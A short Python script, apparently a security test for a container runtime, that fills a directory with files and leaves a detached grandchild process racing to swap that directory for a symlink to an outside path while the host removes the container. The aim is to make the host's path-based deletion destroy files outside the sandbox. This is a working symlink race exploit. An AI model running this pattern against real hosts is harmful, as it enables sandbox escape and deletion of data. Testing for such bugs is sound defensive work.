# Leaves a grandchild in its own session that swaps a directory of the container for a link to OUTSIDE, whose
# files have the same names, while the host removes the container: removal by path would follow the link.
from wire import *
import time
OUTSIDE = "{OUTSIDE}"
host = connect()
os.mkdir("victim")
for n in range(2000):
    open("victim/f%d" % n, "w").close()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            try:
                os.rename("victim", "victim.real")
                os.symlink(OUTSIDE, "victim")
                os.unlink("victim")
                os.rename("victim.real", "victim")
            except OSError:
                pass
    os._exit(0)
send_on(host, message(COMPLETE, complete([])[0]))
stay()
